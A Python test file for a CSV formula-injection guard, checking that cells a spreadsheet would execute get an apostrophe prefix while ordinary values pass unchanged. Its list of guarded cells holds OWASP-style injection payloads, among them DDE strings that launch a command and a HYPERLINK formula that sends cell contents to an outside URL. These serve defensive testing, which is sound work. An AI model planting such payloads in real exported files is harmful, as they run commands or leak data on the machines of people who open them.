"""What a spreadsheet would run, from OWASP's list of CSV injections, and what it must not touch."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ffn.tabular.csv.formula_guard import FormulaGuard, raw_cells
from ffn.tabular.csv.reader import Records

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff0b1",
    "--1",
    "-",
    "=",
    "-1_4",
    "-0x1F",
]
KEPT = ["", "a", "1", "-1", "+1.5", " -.5 ", "-2e-3", "a=1", "'=1", "1-2", "7-Zip", "\t5.1", "é"]


@pytest.mark.parametrize("cell", RUN)
def test_what_runs_is_guarded(cell):
    assert FormulaGuard().text(cell) == "'" + cell


@pytest.mark.parametrize("cell", KEPT)
def test_the_rest_is_kept(cell):
    assert FormulaGuard().text(cell) == cell


def test_a_number_is_one_by_the_files_decimal_mark():
    assert FormulaGuard(",").text("-5,1") == "-5,1"
    assert FormulaGuard(",").text("-5.1") == "'-5.1"
    assert FormulaGuard(".").text("-5,1") == "'-5,1"


CELLS = st.one_of(st.sampled_from(RUN + KEPT), st.text(" =-1,\"'\nx", max_size=5))


@given(
    rows=st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=5),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
)
def test_in_a_file_only_what_runs_changes_and_by_one_apostrophe(rows, quoting):
    file = io.StringIO(newline="")
    csv.writer(file, quoting=quoting).writerows(rows)
    content = b"a,b\r\n" + file.getvalue().encode()
    guard, found, raw = FormulaGuard(), [], []
    for block in Records(io.BytesIO(content), "t.csv"):
        found += guard.records(block, b",")
        raw += map(b",".join, zip(raw_cells(block, 0), raw_cells(block, 1), strict=True))
    # Python's writer ends a line with CRLF, so that no cell's own line break is bare.
    assert b"\r\n".join([b"a,b", *raw, b""]) == content
    read = list(csv.reader(io.StringIO("".join(f"{x.decode()}\r\n" for x in found), newline="")))
    assert read == [[guard.text(cell) for cell in row] for row in rows]
